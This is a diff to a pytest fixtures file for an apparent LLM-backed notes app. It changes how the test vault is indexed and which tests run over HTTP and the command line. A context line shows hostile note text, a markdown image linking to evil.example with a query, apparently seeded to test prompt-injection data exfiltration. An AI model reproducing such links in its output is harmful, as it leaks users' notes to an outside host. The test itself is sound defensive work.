@@ -44,12 +44,12 @@ The account of the visitors is empty. ![x](https://evil.example/?q=visitors)
 @pytest.fixture(scope="session")
 def indexed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
     """The vault and the folder of its index."""
-    from notehop.app.container import locate, update_index
+    from tests.support.real_index import real_index
 
     root = tmp_path_factory.mktemp("asked")
     more = {"Rehearsals.md": f"Of [[Atlas]].\n\n{REHEARSALS}", "Visitors.md": HOSTILE}
     folder = write_notes(root / "My vault", {**NOTES, **more})
-    update_index(locate(folder, index_dir=root / "index"))
+    real_index(folder, root / "index")
     return folder, root / "index"
 
 
@@ -83,7 +83,15 @@ def doors(_doors: Doors, server: LlmServer) -> Doors:  # noqa: ARG001 (it is new
     return _doors
 
 
-@pytest.fixture(params=["http", "cli", "python"])
+def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
+    """Tests ask in Python; those marked ``everywhere`` over HTTP and on the command line too."""
+    if "ask" in metafunc.fixturenames:
+        everywhere = metafunc.definition.get_closest_marker("everywhere")
+        doors = ["python", "http", "cli"] if everywhere else ["python"]
+        metafunc.parametrize("ask", doors, indirect=True)
+
+
+@pytest.fixture
 def ask(request: pytest.FixtureRequest, doors: Doors) -> Door:
     """Asks by one of the doors."""
     door: Door = getattr(doors, request.param)
